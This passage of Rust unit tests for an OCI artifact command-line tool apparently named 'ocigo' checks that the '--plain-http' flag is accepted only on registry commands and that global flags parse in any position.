        let starts: Vec<&str> = text
            .lines()
            .filter(|l| l.starts_with("hint:") || l.starts_with("error:"))
            .collect();
        assert_eq!(starts.len(), 2, "{text}");
    }

    #[test]
    fn cli_definition_is_consistent() {
        Cli::command().debug_assert();
    }

    fn parse(args: &[&str]) -> Result<Cli, clap::Error> {
        Cli::try_parse_from(std::iter::once("ocigo").chain(args.iter().copied()))
    }

    #[test]
    fn registry_flags_only_on_registry_commands() {
        for args in [
            &["pack", ".", "-o", "oci:x", "--plain-http"][..],
            &["push", "oci:a", "h.io/r", "--plain-http"],
            &["pull", "h.io/r", "--plain-http"],
            &["inspect", "--plain-http", "h.io/r"],
            &["sign", "--key", "k", "h.io/r", "--plain-http"],
            &["verify", "--key", "k", "h.io/r", "--plain-http"],
        ] {
            let cli = parse(args).unwrap_or_else(|e| panic!("{args:?}: {e}"));
            assert!(
                cli.command
                    .registry_args()
                    .expect("a registry command")
                    .plain_http,
                "{args:?}"
            );
        }
        for args in [
            &["store", "list", "--plain-http"][..],
            &["store", "prune", "--all", "--plain-http"],
            &["key", "generate", "--plain-http"],
            &["--plain-http", "store", "list"],
        ] {
            let err = parse(args)
                .err()
                .unwrap_or_else(|| panic!("{args:?} parsed"));
            assert_eq!(
                err.kind(),
                clap::error::ErrorKind::UnknownArgument,
                "{args:?}"
            );
        }
        let cli = parse(&["store", "list"]).unwrap();
        assert!(cli.command.registry_args().is_none());
    }

    #[test]
    fn global_flags_still_work_anywhere() {
        let cli = parse(&["store", "list", "--json", "-q", "--store", "/s"]).unwrap();
        assert!(cli.global.json && cli.global.quiet);
        assert_eq!(
            cli.global.store.as_deref(),
            Some(std::path::Path::new("/s"))
        );
        let cli = parse(&["--json", "key", "generate"]).unwrap();
        assert!(cli.global.json);
    }
}
